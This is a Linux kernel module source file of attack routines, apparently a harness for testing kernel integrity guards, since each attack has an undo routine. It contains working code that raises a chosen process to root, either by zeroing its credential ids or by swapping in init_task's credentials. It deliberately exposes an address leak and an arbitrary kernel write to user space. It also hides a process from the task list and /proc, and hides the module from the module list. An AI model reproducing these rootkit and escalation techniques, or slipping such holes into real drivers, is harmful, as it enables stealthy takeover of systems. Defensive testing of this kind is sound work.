// SPDX-License-Identifier: MIT OR GPL-2.0
/* Attacks on the kernel's data: credentials, the lists of processes and modules, and a write primitive for user space. */
#include <linux/cred.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

#include "attack.h"

/* The ids in struct cred: uid, gid, suid, sgid, euid, egid, fsuid, fsgid. */
#define CRED_IDS 8

static struct cred *raised;
static u32 raised_ids[CRED_IDS];

static u32 *ids_of(struct cred *cred)
{
    BUILD_BUG_ON(offsetof(struct cred, fsgid) != offsetof(struct cred, uid) + (CRED_IDS - 1) * sizeof(u32));
    return (u32 *)&cred->uid;
}

static struct task_struct *task_of(u64 pid)
{
    struct task_struct *task;

    rcu_read_lock();
    task = pid_task(find_vpid(pid), PIDTYPE_PID);
    if (task)
        get_task_struct(task);
    rcu_read_unlock();
    return task;
}

/* A process (its pid is the argument) becomes root. */
static int strike_credentials(u64 argument, u64 *answer)
{
    struct task_struct *task = task_of(argument);
    struct cred *cred;
    int index, result = 0;

    if (!task)
        return -ESRCH;
    cred = (struct cred *)get_task_cred(task);
    put_task_struct(task);
    if (raised) {
        put_cred(cred);
        return -EBUSY;
    }
    raised = cred;
    memcpy(raised_ids, ids_of(cred), sizeof(raised_ids));
    for (index = 0; index < CRED_IDS; index++) {
        int one = store(&ids_of(cred)[index], 0, sizeof(u32));

        result = result ? result : one;
    }
    return result;
}

static int undo_credentials(void)
{
    int index, result = 0;

    if (!raised)
        return 0;
    for (index = 0; index < CRED_IDS; index++)
        if (ids_of(raised)[index] != raised_ids[index])
            result |= store(&ids_of(raised)[index], raised_ids[index], sizeof(u32));
    put_cred(raised);
    raised = NULL;
    return result ? -EPERM : 0;
}

/* A process (its pid is the argument) is given the credentials of the first process: no byte of its own changes. */
static struct task_struct *swapped;
static const struct cred *swapped_cred;

static int strike_credentials_swap(u64 argument, u64 *answer)
{
    const struct cred *first = init_task.cred;

    if (swapped)
        return -EBUSY;
    swapped = task_of(argument);
    if (!swapped)
        return -ESRCH;
    swapped_cred = swapped->cred;
    get_cred(first);
    if (store((void *)&swapped->cred, (u64)first, sizeof(first))) {
        put_cred(first);
        put_task_struct(swapped);
        swapped = NULL;
        return -EPERM;
    }
    return 0;
}

static int undo_credentials_swap(void)
{
    if (!swapped)
        return 0;
    /* One that has ended has given them back itself. */
    if (swapped->cred) {
        put_cred(swapped->cred);
        swapped->cred = swapped_cred;
    }
    put_task_struct(swapped);
    swapped = NULL;
    return 0;
}

/* The holes of this driver: where the caller's ids are, and eight bytes written to wherever the last "at" said. */
static int strike_leak(u64 argument, u64 *answer)
{
    *answer = (u64)ids_of((struct cred *)current_cred());
    return 0;
}

static int strike_at(u64 argument, u64 *answer)
{
    *answer = argument;
    return 0;
}

static int strike_poke(u64 argument, u64 *answer)
{
    if (*answer < PAGE_OFFSET)
        return -EINVAL;
    return store((void *)*answer, argument, sizeof(u64));
}

/*
 * A process (its pid is the argument) leaves the task list and the list that /proc is made from. It keeps its pid, so that the
 * scheduler, signals and its end find it.
 */
static struct task_struct *hidden_task;

static int strike_hide_process(u64 argument, u64 *answer)
{
    rwlock_t *lock = (rwlock_t *)symbol("tasklist_lock");
    struct task_struct *task;
    struct hlist_node *node;

    if (!lock)
        return -ENOENT;
    if (hidden_task)
        return -EBUSY;
    task = task_of(argument);
    if (!task)
        return -ESRCH;
    node = &task->pid_links[PIDTYPE_TGID];
    write_lock_irq(lock);
    list_del_rcu(&task->tasks);
    hlist_del_rcu(node);
    write_unlock_irq(lock);
    synchronize_rcu();
    /* Linked to themselves, so that the process may end while it is hidden. */
    INIT_LIST_HEAD(&task->tasks);
    node->next = NULL;
    node->pprev = &node->next;
    hidden_task = task;
    return 0;
}

static int undo_hide_process(void)
{
    rwlock_t *lock = (rwlock_t *)symbol("tasklist_lock");
    struct task_struct *task = hidden_task;

    if (!task)
        return 0;
    write_lock_irq(lock);
    if (pid_alive(task)) {
        list_add_tail_rcu(&task->tasks, &init_task.tasks);
        hlist_add_head_rcu(&task->pid_links[PIDTYPE_TGID], &task->thread_pid->tasks[PIDTYPE_TGID]);
    }
    write_unlock_irq(lock);
    hidden_task = NULL;
    put_task_struct(task);
    return 0;
}

/* This module leaves the list of modules. */
static struct list_head *place;

static int strike_hide_module(u64 argument, u64 *answer)
{
    struct mutex *lock = (struct mutex *)symbol("module_mutex");

    if (!lock)
        return -ENOENT;
    if (place)
        return -EBUSY;
    mutex_lock(lock);
    place = THIS_MODULE->list.prev;
    list_del_rcu(&THIS_MODULE->list);
    /* A guard may have discarded the stores to the neighbours: then we are still in the list, and to enter it again would break it. */
    if (READ_ONCE(place->next) == &THIS_MODULE->list) {
        THIS_MODULE->list.prev = place;
        place = NULL;
    }
    mutex_unlock(lock);
    synchronize_rcu();
    return place ? 0 : -EPERM;
}

static int undo_hide_module(void)
{
    struct mutex *lock = (struct mutex *)symbol("module_mutex");

    if (!place)
        return 0;
    mutex_lock(lock);
    list_add_rcu(&THIS_MODULE->list, (struct list_head *)symbol("modules"));
    place = NULL;
    mutex_unlock(lock);
    return 0;
}

const struct verb object_verbs[] = {
    { "credentials", strike_credentials, undo_credentials },
    { "credentials-swap", strike_credentials_swap, undo_credentials_swap },
    { "leak", strike_leak, NULL },
    { "at", strike_at, NULL },
    { "poke", strike_poke, NULL },
    { "hidden-process", strike_hide_process, undo_hide_process },
    { "hidden-module", strike_hide_module, undo_hide_module },
    {},
};
